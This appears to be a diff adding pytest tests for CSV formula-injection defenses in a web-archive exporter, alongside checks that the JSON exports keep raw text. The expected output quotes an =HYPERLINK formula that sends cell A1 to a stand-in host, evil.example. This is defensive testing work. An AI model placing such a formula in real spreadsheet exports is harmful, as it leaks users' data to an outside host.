@@ -148,3 +148,38 @@ def test_facts_jsonl_loads_into_pandas(filled_archive, tmp_path):
     path.write_bytes(export_bytes(filled_archive, "facts-jsonl"))
     frame = pandas.read_json(path, lines=True)
     assert len(frame) == 8 and {"article_id", "kind", "value", "start", "end"} <= set(frame.columns)
+
+
+FORMULA_PAGE = Path(__file__).resolve().parent / "fixtures" / "hostile" / "formula-title.html"
+
+
+@pytest.fixture(scope="module")
+def formula_archive(tmp_path_factory) -> Path:
+    """An archive holding one page whose title and sentences start with = - @ (formula injection)."""
+    from .conftest import run_jiwen
+
+    archive = tmp_path_factory.mktemp("formula") / "archive"
+    result = run_jiwen("ingest", str(FORMULA_PAGE), "--archive", str(archive))
+    assert result.returncode == 0, result.stderr
+    return archive
+
+
+@pytest.mark.parametrize("format_name", ["csv", "indicators-csv"])
+def test_csv_cells_that_would_start_a_formula_are_made_text(formula_archive, jiwen, tmp_path, format_name):
+    output = tmp_path / "out.csv"
+    result = jiwen("export", "--format", format_name, "--archive", str(formula_archive), "-o", str(output))
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(output.read_text("utf-8"))))
+    assert rows and all(row["title"] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" for row in rows)
+    sentences = {row["sentence"][:2] for row in rows}
+    assert {"'-", "'@"} <= sentences, sentences
+    cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [cell for cell in cells if cell[0] in "=+-@\t\r"], "a cell still starts a formula"
+
+
+@pytest.mark.parametrize("format_name", ["jsonl", "indicators-jsonl"])
+def test_json_formats_keep_formula_like_text_as_archived(formula_archive, jiwen, format_name):
+    result = jiwen("export", "--format", format_name, "--archive", str(formula_archive))
+    assert result.returncode == 0, result.stderr
+    first = json.loads(result.stdout.splitlines()[0])
+    assert first["title"].startswith("=HYPERLINK(")
